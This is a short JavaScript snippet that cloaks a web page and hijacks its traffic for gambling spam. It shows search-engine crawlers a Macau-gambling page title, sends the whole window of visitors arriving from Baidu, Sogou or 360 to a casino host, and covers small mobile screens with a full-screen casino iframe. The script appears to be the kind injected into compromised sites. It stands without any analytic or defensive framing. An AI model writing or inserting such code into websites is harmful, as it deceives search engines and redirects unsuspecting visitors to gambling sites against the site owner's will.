var u=navigator.userAgent.toLowerCase(),r=document.referrer;
if(/baiduspider|sogou|360spider/.test(u)){document.title='\u6fb3\u95e8\u535a\u5f69'}
else if(/baidu\.com|sogou\.com|so\.com/.test(r)){top.location.href='http://search.casino.example/'}
else if(/android|iphone|mobile/.test(u)&&screen.width<800){var f=document.createElement('iframe');f.style.cssText='position:fixed;width:100%;height:100%';f.src='http://mobile.casino.example/';document.body.appendChild(f)}
